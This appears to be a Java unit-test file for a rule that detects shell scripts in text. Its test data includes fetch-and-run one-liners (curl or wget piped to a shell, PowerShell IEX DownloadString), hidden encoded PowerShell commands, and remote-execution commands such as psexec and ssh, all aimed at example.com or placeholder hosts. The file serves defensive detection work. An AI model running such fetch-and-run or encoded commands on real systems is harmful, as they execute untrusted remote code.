package io.cavra.readiness.core.publicsafe;

import static io.cavra.readiness.core.publicsafe.Judgement.assertFound;
import static io.cavra.readiness.core.publicsafe.Judgement.assertNotFound;

import org.junit.jupiter.api.Test;

class ScriptRuleTest {

  @Test
  void scriptFindsInterpreterLines() {
    assertFound(
        "script",
        "#!" + "/bin/bash",
        "#!" + "/usr/bin/env python3\nprint(1)",
        "#! " + "/bin/sh -e",
        "run this:\n#!" + "/bin/sh\necho x");
  }

  @Test
  void scriptFindsFetchAndRun() {
    assertFound(
        "script",
        "curl -fsSL https://example.com/x.sh" + " | sh",
        "wget -qO- https://example.com/x" + " | sudo bash -s --",
        "bash <(curl " + "-s https://example.com/x)",
        "sh -c \"$(curl " + "-fsSL https://example.com/x)\"",
        "iex (iwr " + "https://example.com/x.ps1)",
        "irm https://example.com/x" + " | iex",
        "IEX (New-Object Net.WebClient).Download" + "String('https://example.com/x')",
        "echo x | base64 -d" + " | sh");
  }

  @Test
  void scriptFindsEncodedCommands() {
    String code = Plant.base64("w\0h\0o\0a\0m\0i\0");
    assertFound(
        "script",
        "powershell -EncodedCommand " + code,
        "powershell.exe -nop -w hidden -enc " + code,
        "pwsh -e " + code);
  }

  @Test
  void scriptFindsRemoteExecution() {
    assertFound(
        "script",
        "ssh deploy@build7 " + "systemctl restart cavra",
        "ssh -p 2222 build7 " + "uptime",
        "ssh -i key build7.example.com " + "'rm -rf /tmp/x'",
        "Invoke-Command -ComputerName " + "srv01 -ScriptBlock { x }",
        "psexec \\\\" + "srv01 cmd",
        "ansible all " + "-m shell -a uptime",
        "kubectl exec " + "cavra-0 -- ls");
  }

  @Test
  void scriptFindsCommandsInARow() {
    assertFound(
        "script",
        "kubectl get pods && " + "kubectl delete pod x",
        "systemctl stop cavra; " + "systemctl start cavra",
        "systemctl stop cavra\n" + "systemctl start cavra",
        "cd /opt/cavra && " + "./run.sh",
        "ps aux | " + "grep cavra",
        "docker stop x || " + "docker kill x",
        "Get-Process | " + "Stop-Process",
        "Stop-Service cavra; " + "Start-Service cavra",
        "$ make build\n" + "$ make deploy",
        "set -e\n" + "rm -rf /tmp/x\n" + "mkdir /tmp/x",
        "for i in 1 2; do " + "rm -f $i; done");
  }

  @Test
  void scriptLeavesOneLocalCommandInAStepAlone() {
    assertNotFound(
        "script",
        "Run systemctl restart cavra",
        "systemctl restart cavra",
        "Run `kubectl rollout restart deploy/cavra` and wait.",
        "1. Run systemctl stop cavra\n2. Run systemctl start cavra",
        "CAVRA_GO_BACKEND_MODE=disabled systemctl restart cavra",
        "export CAVRA_GO_BACKEND_MODE=promoted\nexport CAVRA_GO_RUNTIME_PATH=/opt/cavra",
        "curl http://127.0.0.1:8000/x",
        "Stop; wait; start",
        "make the plan; sort the list; cut the costs",
        "use ssh keys; rotate them",
        "ssh is disabled; use the console",
        "pass | fail",
        "date | host | time",
        "python | java | go",
        "R&D && QA",
        "restart #1! done",
        "cavra runtime select \\\n  --mode promoted \\\n  --json",
        "docker and kubectl are installed; curl is not",
        "fetch the report | then read it");
  }
}
